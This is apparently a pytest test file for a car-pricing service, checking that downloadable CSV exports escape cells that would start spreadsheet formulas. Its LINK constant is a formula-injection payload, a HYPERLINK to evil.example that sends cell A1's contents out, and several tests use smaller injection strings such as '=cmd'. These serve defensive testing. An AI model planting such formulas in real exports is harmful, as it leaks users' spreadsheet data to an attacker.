"""CSV files users download cannot inject spreadsheet formulas (text cells only escaped)."""

from __future__ import annotations

import io

import pandas as pd

from carprice.contract.spreadsheet import escape_cell, escape_formulas
from carprice.serving.pricing import BatchResult, results_csv

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_text_cells_that_start_a_formula_get_a_quote():
    for text in (LINK, "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert escape_cell(text) == "'" + text
    for value in ("Logan", "", "a=b", -5, -2.5, None):
        assert escape_cell(value) == value


def test_numbers_stay_numbers_and_text_is_escaped():
    frame = pd.DataFrame({"brand": pd.Series(["Dacia", "@evil"], dtype="category"),
                          "model": [LINK, "Logan"], "delta": [-1200.5, 3.0],
                          "year": [2015, -1], "mixed": ["-x", -7]})
    out = escape_formulas(frame)
    assert out["model"].tolist() == ["'" + LINK, "Logan"]
    assert out["brand"].tolist() == ["Dacia", "'@evil"]
    assert out["mixed"].tolist() == ["'-x", -7]
    assert out["delta"].tolist() == [-1200.5, 3.0] and out["delta"].dtype == frame["delta"].dtype
    assert out["year"].tolist() == [2015, -1] and out["year"].dtype == frame["year"].dtype
    assert frame["model"].iloc[0] == LINK  # the caller's frame is untouched


def test_an_index_of_text_is_escaped_too():
    """evaluate's error_by_brand.csv is written with its brand index."""
    table = pd.DataFrame({"rmse": [-0.1, 0.2]}, index=pd.Index(["=cmd", "Dacia"], name="brand"))
    text = escape_formulas(table).to_csv()
    assert "'=cmd,-0.1" in text and "\nDacia,0.2" in text and text.startswith("brand,")
    series = pd.Series([-0.5], index=pd.Index(["+x"], name="feature"), name="gain")
    assert escape_formulas(series).to_csv() == "feature,gain\n'+x,-0.5\n"


def test_priced_csv_has_no_live_formula():
    scored = pd.DataFrame({"row": [1, 2], "brand": ["Dacia", "Renault"],
                           "model": [LINK, "Clio"], "mileage_km": [-10, 5000],
                           "price_dh": [90123.4, 80000.0], "lower_dh": [-50.2, 70000.0],
                           "upper_dh": [100000.0, 90000.0]})
    raw = results_csv(BatchResult(scored, pd.DataFrame(columns=["row", "problem"]), 2))
    out = pd.read_csv(io.BytesIO(raw))
    assert out["model"].tolist() == ["'" + LINK, "Clio"]
    assert out["mileage_km"].tolist() == [-10, 5000]
    assert out["lower_dh"].tolist() == [-50.0, 70000.0] and out["price_dh"][0] == 90123.0
    assert b'\n1,Dacia,"\'=HYPERLINK' in raw and b",-10," in raw  # the cell is quoted
